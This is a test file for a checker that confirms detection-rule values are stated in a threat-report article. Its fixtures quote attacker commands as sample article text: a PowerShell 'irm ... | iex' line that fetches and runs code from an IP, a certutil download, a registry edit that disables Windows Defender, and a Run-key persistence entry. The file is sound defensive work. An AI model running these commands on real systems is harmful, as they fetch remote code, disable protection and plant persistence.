import { detectionValues } from './detection-values';
import { fidelityCheck } from './fidelity';

describe('fidelityCheck', () => {
  it('accepts values the article states, and the .exe of a program the article runs by its bare name', () => {
    const text = 'The actor ran sc \\\\FS02 create WinSvcHost and then nltest /domain_trusts.';
    expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], [text])).toEqual({
      ok: true,
      unsupported_values: [],
    });
  });

  it('accepts both PowerShell hosts for a rule on PowerShell code the article shows', () => {
    expect(
      fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], ["The lure has the user paste irm 'https://203.0.113.7/a' | iex."]).ok,
    ).toBe(true);
    expect(fidelityCheck(['\\pwsh.exe'], ['The actor ran cmd.exe /c whoami.']).ok).toBe(false);
  });

  it('accepts the Details Sysmon records for a number the article writes, and flags one it never states', () => {
    const text =
      'The actor disabled the service: reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f';
    expect(fidelityCheck(['\\Services\\WinDefend', '\\Start', 'DWORD (0x00000004)'], [text])).toEqual({ ok: true, unsupported_values: [] });
    expect(fidelityCheck(['DWORD (0x00000004)'], ['Start was set to 0x4 on every host.']).ok).toBe(true);
    expect(fidelityCheck(['QWORD (0x00000001-0x00000000)'], ['The value became 4294967296.']).ok).toBe(true);
    expect(fidelityCheck(['DWORD (0x00000002)'], [text])).toEqual({ ok: false, unsupported_values: ['DWORD (0x00000002)'] });
    // Part of a version or a longer number is not the number.
    expect(fidelityCheck(['DWORD (0x00000004)'], ['Version 4.2 shipped with 14 fixes.']).ok).toBe(false);
  });

  it('accepts a registry value written as one path when the article states its key and its value name apart', () => {
    const text = 'Persistence: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v HarrowSync /d C:\\ProgramData\\h.exe';
    const run = '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
    expect(fidelityCheck([`${run}\\HarrowSync`, `${run}\\`], [text])).toEqual({ ok: true, unsupported_values: [] });
    // A value name the article never states, or stated only inside another word, backs nothing.
    expect(fidelityCheck([`${run}\\OtherSync`], [text]).ok).toBe(false);
    expect(fidelityCheck([`${run}\\Harrow`], [text]).ok).toBe(false);
    // Nor does a value name under a key the article never names.
    expect(fidelityCheck(['\\Software\\Classes\\ms-settings\\HarrowSync'], [text]).ok).toBe(false);
  });

  it('flags a value the article does not state, and a program name found only inside another word', () => {
    const text = 'The actor ran describe.ps1 from a scheduled task.';
    expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], [text])).toEqual({
      ok: false,
      unsupported_values: ['\\sc.exe', '\\mimikatz.exe'],
    });
  });
});

describe('fidelityCheck on defanged articles', () => {
  it('accepts the refanged form of a defanged value and the single-% form of a batch variable', () => {
    const text = 'certutil -urlcache -f hxxp://203.0.113[.]5/a.txt %%APPDATA%%\\a.txt';
    expect(fidelityCheck(['http://', '%APPDATA%\\a.txt', '203.0.113.5'], [text])).toEqual({ ok: true, unsupported_values: [] });
  });
});

describe('detection values the fidelity check reads', () => {
  it("accepts a stated hash as Sysmon's Hashes entry and a folder variable as the path it expands to, and flags others", () => {
    const hash = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    const text = `The loader (SHA256 ${hash}) copies itself to %APPDATA%\\Quill\\qsync.exe.`;
    expect(fidelityCheck([`SHA256=${hash}`, '\\AppData\\Roaming\\Quill\\qsync.exe'], [text]).ok).toBe(true);
    const other = 'a'.repeat(64);
    expect(fidelityCheck([`SHA256=${other}`, '\\AppData\\Local\\Quill\\qsync.exe'], [text]).unsupported_values).toEqual([
      `SHA256=${other}`,
      '\\AppData\\Local\\Quill\\qsync.exe',
    ]);
  });

  it('leaves out blocks the condition only negates: a filter states no observation', () => {
    const rule = (condition: string) => ({
      detection: {
        selection: { 'TargetObject|endswith': '\\Run\\QuillSetup' },
        filter_genuine: { 'Details|contains': '\\QuillSetup.exe' },
        condition,
      },
    });
    expect(detectionValues(rule('selection and not filter_genuine'))).toEqual(['\\Run\\QuillSetup']);
    // A block the condition also uses positively is read.
    expect(detectionValues(rule('selection or filter_genuine'))).toEqual(['\\Run\\QuillSetup', '\\QuillSetup.exe']);
  });
});
